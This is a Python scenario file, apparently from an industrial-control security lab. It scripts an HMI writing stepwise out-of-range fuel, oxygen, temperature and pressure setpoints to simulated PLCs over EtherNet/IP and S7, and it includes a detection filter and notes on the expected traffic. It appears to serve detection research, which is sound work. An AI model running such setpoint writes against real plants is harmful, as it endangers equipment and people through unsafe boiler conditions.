"""The operator panel, in an attacker's hands, moves setpoints step by step out of their range.

ATT&CK for ICS: T0836 modify parameter, T0831 manipulation of control, T0855 unauthorized command message.
Attack frames: every frame of the EtherNet/IP and the S7 session that the panel opens beside its own. The panel may
write these points and does so every few minutes; only the values and their pace are wrong: fuel feed from 4.2 to 7.5
t/h, oxygen from 6 to 1.2 %, outlet temperature from 95 to 121 °C, pressure from 1.05 to 1.55 MPa. The CIP write tag
services (0x4d) and S7 write jobs (function 5) of these sessions are the commands.
"""

from __future__ import annotations

import struct
from typing import TYPE_CHECKING

from lab.clients.sessions import enip, s7comm, tags
from lab.devices.s7comm import SETPOINT_BLOCK
from lab.plant import address
from lab.scenario import Scenario

if TYPE_CHECKING:
    from lab.clock import Clock

FEED = (4.6, 5.2, 5.9, 6.7, 7.5)
OXYGEN = (5.0, 4.1, 3.1, 2.1, 1.2)
OUTLET = (99.0, 104.0, 110.0, 116.0, 121.0)
PRESSURE = (1.12, 1.21, 1.32, 1.44, 1.55)


def attack(clock: Clock) -> None:
    """Five steps, seven seconds apart."""
    with enip("plc-fuel") as fuel, s7comm("plc-boiler") as boiler:
        for feed, oxygen, outlet, pressure in zip(FEED, OXYGEN, OUTLET, PRESSURE, strict=True):
            tags(fuel, f"Fuel_SP[0-2]=(REAL){feed},{feed},{oxygen}", together=False)
            clock.sleep(1.5)
            boiler.db_write(SETPOINT_BLOCK, 0, bytearray(struct.pack(">3f", outlet, outlet, pressure)))
            clock.sleep(5.5)


SCENARIO = Scenario(
    name="point-manipulation",
    title="The operator panel moves setpoints out of their range",
    length=150.0,
    techniques=("T0836", "T0831", "T0855"),
    attacker="hmi",
    victims=("plc-fuel", "plc-boiler"),
    begin=70.0,
    behind=2340,
    commands=f"ip.src == {address('hmi')} && (cip.sc == 0x4d || s7comm.param.func == 5)",
    attack=attack,
    seen="""\
- Ten writes by `10.21.10.32` (panel), which writes these points also in normal operation (two such writes lie before
  the attack and match the filter: they are no part of it).
- `Fuel_SP[0-2]` on `10.21.10.13`: feed 4.6, 5.2, 5.9, 6.7, 7.5 t/h; normal are 4.1 to 4.3. Oxygen down to 1.2 %.
- DB 12 bytes 0 to 11 on `10.21.10.12`: 99 to 121 °C, normal 94.5 to 96; 1.12 to 1.55 MPa, never written otherwise.
- Measurements follow: `Fuel_PV`, DB 11.""",
)
